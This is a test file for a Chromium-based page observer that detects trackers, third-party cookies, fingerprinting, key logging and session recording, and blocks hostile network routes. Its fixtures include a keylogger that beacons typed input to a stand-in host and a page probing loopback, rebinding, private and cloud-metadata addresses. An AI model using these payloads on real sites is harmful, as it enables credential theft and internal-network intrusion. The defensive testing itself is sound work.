import {
  BrowserTier,
  BrowserTierErrorCode,
  findChromium,
  observeSite,
} from '../../src/browser/index.js';
import {
  html,
  pixel,
  script,
  startFixtureWeb,
  startTripwire,
  type FixtureWeb,
} from './fixture-web.js';

/**
 * The browser tier against a fixture web on loopback (FRENLY_RESOLVE `*` → one port), with the
 * real Chromium of this machine. The allow-list names the fixture's port only.
 */
describe('BrowserTier (real Chromium, fixture web)', () => {
  const chromium = findChromium(process.env.FRENLY_CHROMIUM_PATH);
  let web: FixtureWeb;
  let tripwire: Awaited<ReturnType<typeof startTripwire>>;
  let sut: BrowserTier;

  beforeAll(async () => {
    if (!chromium.found) throw new Error(`These tests need Chromium: ${chromium.reason}`);
    tripwire = await startTripwire();
    const trap = tripwire.port;
    web = await startFixtureWeb({
      // A shop whose "tag manager" injects an analytics script and an ad pixel after load.
      'shop.test': (path, _request, response) => {
        if (path === '/tags.js') {
          return script(
            response,
            `addEventListener('load', () => setTimeout(() => {
               const s = document.createElement('script');
               s.src = 'https://www.google-analytics.com/analytics.js';
               document.head.appendChild(s);
               new Image().src = 'https://www.facebook.com/tr?id=123&ev=PageView';
             }, 50));`,
          );
        }
        html(
          response,
          '<!doctype html><title>Shop</title><h1>Shop</h1><script src="/tags.js"></script>',
        );
      },
      'www.google-analytics.com': (_path, _request, response) =>
        script(response, '/* analytics */'),
      'www.facebook.com': (path, _request, response) => {
        if (path.startsWith('/tr')) return pixel(response);
        // The like-button frame sets a 90-day cookie (SameSite=None; Secure: a third-party cookie).
        html(response, '<p>like</p>', {
          'set-cookie': 'fr=abc; Max-Age=7776000; Path=/; Secure; SameSite=None',
        });
      },
      'news.test': (_path, _request, response) =>
        html(
          response,
          '<!doctype html><title>News</title><h1>News</h1><iframe src="https://www.facebook.com/plugins/like"></iframe>',
          { 'set-cookie': 'session=1; Path=/; HttpOnly' },
        ),
      'plain.test': (path, _request, response) => {
        if (path === '/logo.gif') return pixel(response);
        html(
          response,
          '<!doctype html><html lang="en"><title>Plain</title><main><h1>Plain</h1><img src="/logo.gif" alt="logo"><p>Hello. <a href="/about">About</a> <a href="https://elsewhere.test/">Elsewhere</a></p><input type="search" name="q" aria-label="Search"></main></html>',
        );
      },
      // A vendor script that fingerprints canvas, audio and fonts; the page's own small canvas does not count.
      'fp.test': (_path, _request, response) =>
        html(
          response,
          `<!doctype html><html lang="en"><title>FP</title><main><h1>FP</h1>
           <button style="color:#ccc;background:#fff"></button>
           <script>const c = document.createElement('canvas'); c.width = 8; c.height = 8;
             c.getContext('2d').fillText('x', 0, 8); c.toDataURL();</script>
           <script src="https://fp-vendor.test/fp.js"></script></main></html>`,
        ),
      'fp-vendor.test': (_path, _request, response) =>
        script(
          response,
          `(async () => {
             const canvas = document.createElement('canvas'); canvas.width = 220; canvas.height = 30;
             const ctx = canvas.getContext('2d');
             ctx.textBaseline = 'top'; ctx.font = '14px Arial'; ctx.fillText('Cwm fjordbank glyphs vext quiz', 2, 2);
             canvas.toDataURL();
             for (const font of Array.from({ length: 25 }, (_, i) => 'font' + i)) { ctx.font = '12px ' + font; ctx.measureText('mmmmmmmmmmlli'); }
             const audio = new OfflineAudioContext(1, 5000, 44100);
             const osc = audio.createOscillator(); osc.connect(audio.destination); osc.start(0);
             await audio.startRendering();
           })();`,
        ),
      // A newsletter form whose vendor script sends what is typed, before any submit.
      'form.test': (_path, _request, response) =>
        html(
          response,
          `<!doctype html><html lang="en"><title>Form</title><main><h1>Newsletter</h1>
           <form action="/subscribe"><label>Email <input type="email" name="email"></label><button>Subscribe</button></form>
           <script src="https://keylog-vendor.test/k.js"></script>
           <script src="https://replay-vendor.test/r.js"></script></main></html>`,
        ),
      // A session recorder: the whole document's mutations, pointer moves and keys.
      'replay-vendor.test': (_path, _request, response) =>
        script(
          response,
          `new MutationObserver(() => {}).observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
           document.addEventListener('mousemove', () => {}, true);
           document.addEventListener('keydown', () => {}, true);
           window.addEventListener('scroll', () => {}, { passive: true });`,
        ),
      'keylog-vendor.test': (path, _request, response) => {
        if (path === '/collect') return void response.writeHead(204).end();
        script(
          response,
          `document.addEventListener('input', (event) => {
             navigator.sendBeacon('https://keylog-vendor.test/collect', JSON.stringify({ v: btoa(event.target.value) }));
           });`,
        );
      },
      // A page whose load never ends: a script in the head that never answers.
      'slow.test': (path, _request, response) => {
        if (path === '/hang.js')
          return void response.writeHead(200, { 'content-type': 'text/javascript' });
        html(
          response,
          '<!doctype html><title>Slow</title><script src="/hang.js"></script><h1>Slow</h1>',
        );
      },
      // Every route a page has to the machine's own network, pointed at the tripwire.
      'evil.test': (path, _request, response) => {
        if (path === '/redirect')
          return void response
            .writeHead(302, { location: `http://127.0.0.1:${trap}/redirected` })
            .end();
        if (path === '/sw.js') return script(response, `fetch('http://127.0.0.1:${trap}/sw')`);
        html(
          response,
          `<!doctype html><title>Evil</title>
           <iframe src="http://localhost:${trap}/frame"></iframe>
           <iframe src="http://rebind.test/frame"></iframe>
           <img src="http://evil.test/redirect">
           <img src="http://2130706433:${trap}/decimal">
           <img src="http://169.254.169.254/latest/meta-data/">
           <img src="http://10.0.0.1/">
           <script>
             fetch('http://127.0.0.1:${trap}/fetch').catch(() => {});
             fetch('http://rebind.test/fetch').catch(() => {});
             const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://127.0.0.1:${trap}/xhr'); xhr.send();
             try { new WebSocket('ws://127.0.0.1:${trap}/ws'); } catch {}
             try { new WebSocket('ws://rebind.test/ws'); } catch {}
             navigator.serviceWorker?.register('/sw.js').catch(() => {});
             window.open('http://evil.test/popup');
             // Blaming someone else's script for fingerprinting through the probe's channel.
             window.__frenlyProbe?.({ technique: 'canvas', script: 'https://www.google.com/recaptcha/api.js' });
           </script>`,
        );
      },
    });
    sut = new BrowserTier({
      chromiumPath: chromium.path,
      poolSize: 1,
      pageBudgetMs: 10_000,
      allowList: [`127.0.0.1:${web.port}`],
      // rebind.test: a name whose "DNS" points at loopback, on a port the allow-list does not name.
      resolve: [`rebind.test=127.0.0.1:${trap}`, `*=127.0.0.1:${web.port}`],
      ignoreHttpsErrors: true,
    });
  }, 30_000);

  afterAll(async () => {
    await sut?.close();
    await web?.close();
    await tripwire?.close();
  });

  it('finds the analytics script and the ad pixel a tag manager injects after load, by organisation and purpose', async () => {
    const seen = await sut.observe('http://shop.test/');

    expect(seen).toMatchObject({
      finalUrl: 'http://shop.test/',
      status: 200,
      timedOut: false,
      networkSettled: true,
      refused: [],
    });
    expect(seen.trackers).toEqual([
      expect.objectContaining({
        organization: 'Google',
        names: ['Google Analytics'],
        categories: ['site_analytics'],
        hosts: ['www.google-analytics.com'],
      }),
      expect.objectContaining({
        organization: 'Meta',
        categories: ['advertising'],
        hosts: ['www.facebook.com'],
      }),
    ]);
    const analytics = seen.requests.find(
      (r) => r.url === 'https://www.google-analytics.com/analytics.js',
    );
    expect(analytics).toMatchObject({
      type: 'script',
      thirdParty: true,
      failure: null,
      initiator: 'http://shop.test/tags.js',
    });
    const adPixel = seen.requests.find((r) => r.url.startsWith('https://www.facebook.com/tr'));
    // Chromium schedules image loads in a task of their own, so a pixel's initiator is not known.
    expect(adPixel).toMatchObject({
      type: 'image',
      thirdParty: true,
      failure: null,
      tracker: { organization: 'Meta', category: 'advertising' },
    });
    // A real PNG of the first screen.
    expect(seen.screenshotPng?.subarray(1, 4).toString('latin1')).toBe('PNG');
  }, 20_000);

  it('reports the long-lived cookie a third-party iframe sets, with its lifetime and owner', async () => {
    const seen = await sut.observe('http://news.test/');

    const fr = seen.cookies.find((c) => c.name === 'fr');
    expect(fr).toMatchObject({
      domain: 'www.facebook.com',
      thirdParty: true,
      owner: 'Meta',
      category: 'advertising',
      secure: true,
      sameSite: 'None',
    });
    expect(fr?.lifetimeSeconds).toBeGreaterThan(7776000 - 60);
    expect(fr?.lifetimeSeconds).toBeLessThanOrEqual(7776000);
    expect(seen.cookies.find((c) => c.name === 'session')).toMatchObject({
      domain: 'news.test',
      thirdParty: false,
      lifetimeSeconds: null,
      owner: 'news.test',
    });
    expect(
      seen.requests.find((r) => r.url === 'https://www.facebook.com/plugins/like'),
    ).toMatchObject({ type: 'document', thirdParty: true, frameUrl: 'http://news.test/' });
  }, 20_000);

  it('claims no tracker on a plain page, in a fresh context (no cookie of the previous visit)', async () => {
    const seen = await sut.observe('http://plain.test/');

    expect(seen.status).toBe(200);
    expect(seen.trackers).toEqual([]);
    expect(seen.cookies).toEqual([]);
    expect(seen.innerLinks).toEqual(['http://plain.test/about']);
    expect(seen.keyLogging).toEqual([]);
    expect(seen.sessionRecording).toEqual([]);
    expect(seen.fingerprinting).toEqual([]);
    expect(seen.accessibility).toMatchObject({
      violations: [],
      axeVersion: expect.stringMatching(/^4\./),
    });
    expect(seen.accessibility?.passed).toBeGreaterThan(0);
    expect(seen.requests.map((r) => [r.url, r.type, r.thirdParty])).toEqual([
      ['http://plain.test/', 'document', false],
      ['http://plain.test/logo.gif', 'image', false],
    ]);
  }, 20_000);

  it('attributes canvas, audio and font fingerprinting to the calling script, and runs axe on the rendered DOM', async () => {
    const seen = await sut.observe('http://fp.test/');

    expect(seen.fingerprinting).toEqual([
      {
        script: 'https://fp-vendor.test/fp.js',
        techniques: ['canvas', 'audio', 'fonts'],
        frames: ['http://fp.test/'],
      },
    ]);
    const violations = seen.accessibility?.violations.map((v) => v.id);
    expect(violations).toEqual(expect.arrayContaining(['button-name']));
    expect(seen.accessibility?.violations.find((v) => v.id === 'button-name')).toMatchObject({
      impact: 'critical',
      nodes: 1,
      examples: ['button'],
    });
  }, 20_000);

  it('sees typed text leave the page before any submit, and a session recorder at work', async () => {
    const seen = await sut.observe('http://form.test/');

    expect(seen.keyLogging).toEqual([
      {
        url: 'https://keylog-vendor.test/collect',
        host: 'keylog-vendor.test',
        thirdParty: true,
        field: 'email',
        encoding: 'base64',
      },
    ]);
    expect(seen.requests.some((r) => r.url.includes('/subscribe'))).toBe(false);
    // The recorder is reported; the key logger, which only listens for input, is not a recorder.
    expect(seen.sessionRecording).toEqual([
      {
        script: 'https://replay-vendor.test/r.js',
        listeners: ['keydown', 'mousemove', 'scroll'],
        frames: ['http://form.test/'],
      },
    ]);
  }, 20_000);

  it('visits the homepage and one inner page within one budget', async () => {
    const site = await observeSite(sut, 'http://plain.test/', 8_000);

    expect(site.homepage.finalUrl).toBe('http://plain.test/');
    expect(site.innerPage).toMatchObject({
      finalUrl: 'http://plain.test/about',
      status: 200,
      trackers: [],
    });
    expect(site.innerPageSkipped).toBeNull();
  }, 20_000);

  it('finds the same trackers, cookies and fingerprinting on every run of the same page', async () => {
    const findings = async (url: string): Promise<unknown> => {
      const seen = await sut.observe(url);
      return {
        trackers: seen.trackers,
        cookies: seen.cookies.map((c) => [c.name, c.domain, c.thirdParty, c.owner]),
        fingerprinting: seen.fingerprinting,
        violations: seen.accessibility?.violations.map((v) => v.id),
      };
    };
    expect(await findings('http://shop.test/')).toEqual(await findings('http://shop.test/'));
    expect(await findings('http://fp.test/')).toEqual(await findings('http://fp.test/'));
  }, 30_000);

  it('keeps to a hard time budget on a page that never finishes loading, keeping what it saw', async () => {
    const started = Date.now();
    const seen = await sut.observe('http://slow.test/', { budgetMs: 3_000 });

    expect(Date.now() - started).toBeLessThan(3_000 + 1_000);
    expect(seen).toMatchObject({ timedOut: true, networkSettled: false, status: null });
    expect(seen.requests.map((r) => r.url)).toEqual([
      'http://slow.test/',
      'http://slow.test/hang.js',
    ]);
  }, 20_000);

  it('refuses to load a page the address policy forbids, saying why (plain HTTP and TLS)', async () => {
    await expect(sut.observe(`http://127.0.0.1:${tripwire.port}/`)).rejects.toMatchObject({
      code: BrowserTierErrorCode.NavigationFailed,
      message: expect.stringMatching(/could not load .*Refused: 127\.0\.0\.1 is/),
    });
    await expect(sut.observe('https://rebind.test/')).rejects.toMatchObject({
      code: BrowserTierErrorCode.NavigationFailed,
      message: expect.stringMatching(
        /could not load https:\/\/rebind\.test\/: Refused: rebind\.test resolves to 127\.0\.0\.1/,
      ),
    });
    expect(tripwire.connections()).toBe(0);
  }, 20_000);

  it('lets a hostile page reach no loopback, private or metadata address by any route', async () => {
    const seen = await sut.observe('http://evil.test/');

    expect(tripwire.connections()).toBe(0);
    expect(seen.fingerprinting).toEqual([]);
    // The popup was blocked (Chromium's blocker is back on): its page was never requested.
    expect(web.hits).not.toContain('evil.test/popup');
    // The refusals came from the egress proxy (not from luck): each route reached it and was turned away.
    const refused = seen.refused.map((r) => r.target);
    expect(refused).toEqual(
      expect.arrayContaining([
        `http://127.0.0.1:${tripwire.port}/fetch`,
        `http://127.0.0.1:${tripwire.port}/xhr`,
        `http://127.0.0.1:${tripwire.port}/redirected`,
        `http://127.0.0.1:${tripwire.port}/decimal`,
        'http://rebind.test/fetch',
        'http://rebind.test/frame',
        'http://169.254.169.254/latest/meta-data/',
        'http://10.0.0.1/',
      ]),
    );
    expect(
      refused.some((t) => t.startsWith('http://localhost:') || t.startsWith('localhost:')),
    ).toBe(true);
    expect(
      refused.filter((t) => t === `127.0.0.1:${tripwire.port}` || t === 'rebind.test:80').length,
    ).toBeGreaterThanOrEqual(2);
  }, 20_000);
});
